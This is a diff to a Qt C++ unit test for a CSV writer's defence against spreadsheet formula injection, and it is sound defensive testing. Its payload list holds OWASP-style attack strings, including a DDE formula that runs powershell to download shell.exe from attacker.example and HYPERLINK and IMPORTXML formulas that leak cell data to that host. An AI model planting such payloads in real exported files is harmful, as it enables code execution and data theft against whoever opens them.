@@ -73,8 +73,15 @@ private Q_SLOTS:
         QTest::newRow("plus") << u"+1+1"_s << u"'+1+1"_s;
         QTest::newRow("minus") << u"-2+3"_s << u"'-2+3"_s;
         QTest::newRow("at") << u"@SUM(A1)"_s << u"'@SUM(A1)"_s;
-        QTest::newRow("tab") << u"\t=1"_s << u"'\t=1"_s;
-        QTest::newRow("cr") << u"\r=1"_s << u"'\r=1"_s;
+        QTest::newRow("tab") << u"\t=1"_s << u"'\t'=1"_s;
+        QTest::newRow("cr") << u"\r=1"_s << u"'\r'=1"_s;
+        QTest::newRow("after semicolon")
+            << u"x;=HYPERLINK(\"http://x\")"_s << u"x;'=HYPERLINK(\"http://x\")"_s;
+        QTest::newRow("after comma") << u"Doe, +1"_s << u"Doe,' +1"_s;
+        QTest::newRow("after tab") << u"x\t@SUM(A1)"_s << u"x\t'@SUM(A1)"_s;
+        QTest::newRow("list item") << u"49392;-2+3;4940"_s << u"49392;'-2+3;4940"_s;
+        QTest::newRow("quoted") << u"\"=1+1\""_s << u"'\"=1+1\""_s;
+        QTest::newRow("full-width") << u"\uFF1D1+1"_s << u"'\uFF1D1+1"_s;
         QTest::newRow("harmless") << u"DR. SMITH"_s << u"DR. SMITH"_s;
         QTest::newRow("inner equals") << u"a=b"_s << u"a=b"_s;
     }
@@ -84,6 +91,72 @@ private Q_SLOTS:
         QFETCH(QString, input);
         QFETCH(QString, expected);
         QCOMPARE(exporting::CsvWriter::neutralise(input), expected);
+    }
+
+    // OWASP's CSV injection payloads, alone, after a ';' or ',' or tab inside a cell, and as an
+    // item of a ';'-joined list: whichever separator a spreadsheet splits the file on (',' as
+    // written, ';' as Spanish locales do, or tab), no piece of any cell may start a formula.
+    void formulaInjectionUnderEachSeparator_data()
+    {
+        QTest::addColumn<QChar>("separator");
+        QTest::newRow("comma") << QChar(u',');
+        QTest::newRow("semicolon") << QChar(u';');
+        QTest::newRow("tab") << QChar(u'\t');
+    }
+
+    void formulaInjectionUnderEachSeparator()
+    {
+        QFETCH(QChar, separator);
+        const QStringList payloads = {
+            u"=cmd|' /C calc'!A0"_s,
+            u"=cmd|'/C powershell IEX(wget attacker.example/shell.exe)'!A0"_s,
+            u"=HYPERLINK(\"http://attacker.example?leak=\"&A1&A2,\"Error: click here\")"_s,
+            u"@SUM(1+9)*cmd|' /C calc'!A0"_s,
+            u"+SUM(1+9)*cmd|' /C calc'!A0"_s,
+            u"-2+3+cmd|' /C calc'!A0"_s,
+            u"=10+20+cmd|' /C calc'!A0"_s,
+            u"=DDE(\"cmd\";\"/C calc\";\"!A0\")"_s,
+            u"=IMPORTXML(CONCAT(\"http://attacker.example/?v=\", CONCATENATE(A2:E2)), \"//a\")"_s,
+            u"\t=1+1"_s,
+            u"\r=1+1"_s,
+            u" =1+1"_s,
+            u"\"=1+1\""_s,
+            u"\uFF1D1+1"_s,
+        };
+        exporting::CsvWriter csv;
+        for (const QString &p : payloads) {
+            csv.text(p);
+            csv.text(u"Smith"_s + separator + p);
+            csv.text(u"49392;"_s + p + u";4940"_s);
+            csv.endRow();
+        }
+        // The strictest reading: split on the separator and on line breaks, quotes ignored.
+        const QString out = csv.result();
+        QString piece;
+        const auto check = [&piece] {
+            qsizetype i = 0;
+            while (i < piece.size() && (piece.at(i) == u' ' || piece.at(i) == u'"'))
+                ++i;
+            if (i < piece.size()) {
+                const char16_t c = piece.at(i).unicode();
+                const bool formula = c == u'=' || c == u'+' || c == u'-' || c == u'@' || c == u'\t'
+                    || c == 0xFF1D || c == 0xFF0B || c == 0xFF0D || c == 0xFF20;
+                if (formula)
+                    qWarning() << "live formula:" << piece;
+                QVERIFY(!formula);
+            }
+            piece.clear();
+        };
+        for (QChar c : out) {
+            if (c == separator || c == u'\r' || c == u'\n') {
+                check();
+                if (QTest::currentTestFailed())
+                    return;
+            } else {
+                piece += c;
+            }
+        }
+        check();
     }
 
     void negativeAmountsStayNumbers()
